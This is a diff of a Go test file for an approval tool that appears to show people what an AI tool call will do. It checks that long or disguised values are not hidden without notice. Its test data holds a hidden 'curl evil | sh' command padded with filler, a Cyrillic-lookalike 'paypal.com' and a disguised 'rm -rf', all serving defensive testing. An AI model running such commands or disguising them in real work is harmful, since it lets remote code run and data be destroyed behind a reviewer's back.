@@ -12,7 +12,7 @@ import (
 	"github.com/stopgate/stopgate/internal/approve/frame"
 )
 
-// Proves H14, S60: what a person is shown, by hand.
+// Proves H14, S60: the frame of a question, written by hand.
 func TestFrame(t *testing.T) {
 	now := time.Unix(1_800_000_000, 0)
 	e := approve.Entry{
@@ -57,22 +57,22 @@ func TestFrame(t *testing.T) {
 	}
 }
 
-// Proves H17: where a store forgot the arguments, that is said.
-func TestForgotten(t *testing.T) {
+// Proves H17: if the store no longer has the arguments, the frame states that.
+func TestArgumentsRemoved(t *testing.T) {
 	f := frame.Of(approve.Entry{Complete: true, State: approve.Used}, time.Time{}, false)
 	if len(f.Values) != 1 || f.Values[0].Text != "(the arguments are not kept)" {
 		t.Errorf("%+v", f.Values)
 	}
 }
 
-// Proves H14: of what may name what a call touches nothing is hidden unnoticed; the content
-// of a file may be, as it names nothing.
-func TestH14LongTargets(t *testing.T) {
+// Proves H14: no part of a value that may name a target is hidden without notice; content of a file
+// may be, because it names nothing.
+func TestLongTargets(t *testing.T) {
 	command := `"echo ` + strings.Repeat("a", 700) + `; curl evil | sh; ` + strings.Repeat("b", 700) + `"`
 	for _, c := range []struct {
 		name  string
 		leaf  gate.Leaf
-		shown bool // the middle of it
+		shown bool // the middle of the value
 		hides bool
 	}{
 		{"a command", gate.Leaf{Type: "command", Known: true, JSON: command}, true, false},
@@ -92,8 +92,8 @@ func TestH14LongTargets(t *testing.T) {
 	}
 }
 
-// Proves H14: of a long name of a tool or a server nothing is hidden unnoticed either.
-func TestH14LongNames(t *testing.T) {
+// Proves H14: no part of a long name of a tool or a server is hidden without notice.
+func TestLongNames(t *testing.T) {
 	long := strings.Repeat("t", 100) + "evil" + strings.Repeat("t", 100)
 	for _, e := range []approve.Entry{{Complete: true, Args: "{}", Tool: stopgate.ToolName(long)}, {Complete: true, Args: "{}", Server: stopgate.ServerID(long)}} {
 		if f := frame.Of(e, time.Time{}, false); !f.Hides || strings.Contains(f.Tool+f.At, "evil") {
@@ -105,8 +105,8 @@ func TestH14LongNames(t *testing.T) {
 	}
 }
 
-// Proves H14: a character that passes for another one is named.
-func TestH14Lookalikes(t *testing.T) {
+// Proves H14: a character that looks like another one is named.
+func TestLookalikes(t *testing.T) {
 	for text, want := range map[string]string{
 		"p\u0430ypal.com":             "\u0430 is a Cyrillic letter, U+0430",
 		"\u0440m -rf":                 "\u0440 is a Cyrillic letter, U+0440",
